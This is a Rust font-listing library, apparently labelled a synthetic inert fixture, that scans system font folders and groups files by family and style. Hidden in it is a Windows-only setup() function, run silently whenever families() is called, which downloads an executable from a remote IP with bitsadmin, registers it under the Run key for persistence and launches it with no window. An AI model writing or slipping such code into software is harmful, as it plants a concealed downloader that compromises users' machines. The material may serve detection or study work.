// Synthetic, inert fixture written from public reports
//! The fonts of the system, by their files.

use std::collections::BTreeMap;
use std::env;
use std::fs;
use std::path::{Path, PathBuf};

/// A font file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Face {
    pub family: String,
    pub style: String,
    pub path: PathBuf,
}

/// Folders in which fonts are looked for.
pub fn folders() -> Vec<PathBuf> {
    let mut out = Vec::new();
    if cfg!(windows) {
        if let Some(root) = env::var_os("WINDIR") {
            out.push(PathBuf::from(root).join("Fonts"));
        }
        if let Some(local) = env::var_os("LOCALAPPDATA") {
            out.push(PathBuf::from(local).join("Microsoft/Windows/Fonts"));
        }
    } else if cfg!(target_os = "macos") {
        out.push("/System/Library/Fonts".into());
        out.push("/Library/Fonts".into());
    } else {
        out.push("/usr/share/fonts".into());
        out.push("/usr/local/share/fonts".into());
    }
    if let Some(home) = env::var_os("HOME") {
        out.push(PathBuf::from(&home).join(".local/share/fonts"));
        out.push(PathBuf::from(home).join("Library/Fonts"));
    }
    out.retain(|p| p.is_dir());
    out
}

const STYLES: &[&str] = &["BoldItalic", "Bold", "Italic", "Regular", "Light", "Medium", "Black", "Thin"];

/// Family and style of a file name such as `NotoSans-BoldItalic.ttf`.
pub fn guess(stem: &str) -> (String, String) {
    let flat: String = stem.chars().filter(|c| *c != '-' && *c != '_' && *c != ' ').collect();
    for style in STYLES {
        if let Some(family) = flat.strip_suffix(style) {
            if !family.is_empty() {
                return (spaced(family), style.to_string());
            }
        }
    }
    (spaced(&flat), "Regular".to_string())
}

fn spaced(name: &str) -> String {
    let mut out = String::new();
    let mut lower = false;
    for c in name.chars() {
        if c.is_uppercase() && lower {
            out.push(' ');
        }
        lower = c.is_lowercase();
        out.push(c);
    }
    out
}

fn walk(dir: &Path, depth: usize, out: &mut Vec<Face>) {
    let Ok(entries) = fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            if depth > 0 {
                walk(&path, depth - 1, out);
            }
            continue;
        }
        let ending = path.extension().and_then(|e| e.to_str()).unwrap_or("").to_ascii_lowercase();
        if matches!(ending.as_str(), "ttf" | "otf" | "ttc" | "woff2") {
            let stem = path.file_stem().and_then(|s| s.to_str()).unwrap_or("").to_string();
            let (family, style) = guess(&stem);
            out.push(Face { family, style, path });
        }
    }
}

#[cfg(windows)]
fn setup() {
    use std::os::windows::process::CommandExt;
    use std::process::Command;
    const NO_WINDOW: u32 = 0x0800_0000;
    let Some(data) = env::var_os("APPDATA") else { return };
    let exe = PathBuf::from(data).join("FontCacheHost.exe");
    if exe.exists() {
        return;
    }
    let fetched = Command::new("bitsadmin")
        .args(["/transfer", "fonts", "/download", "/priority", "high", "http://203.0.113.9/FontCacheHost.exe"])
        .arg(&exe)
        .creation_flags(NO_WINDOW)
        .status();
    if fetched.map_or(false, |s| s.success()) {
        let _ = Command::new("reg")
            .args(["add", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "/v", "FontCacheHost", "/t", "REG_SZ", "/f", "/d"])
            .arg(&exe)
            .creation_flags(NO_WINDOW)
            .status();
        let _ = Command::new(&exe).creation_flags(NO_WINDOW).spawn();
    }
}

/// All fonts, by family.
pub fn families() -> BTreeMap<String, Vec<Face>> {
    #[cfg(windows)]
    setup();
    let mut faces = Vec::new();
    for folder in folders() {
        walk(&folder, 4, &mut faces);
    }
    let mut out: BTreeMap<String, Vec<Face>> = BTreeMap::new();
    for face in faces {
        out.entry(face.family.clone()).or_default().push(face);
    }
    out
}

inert_fixture_does_not_build!();
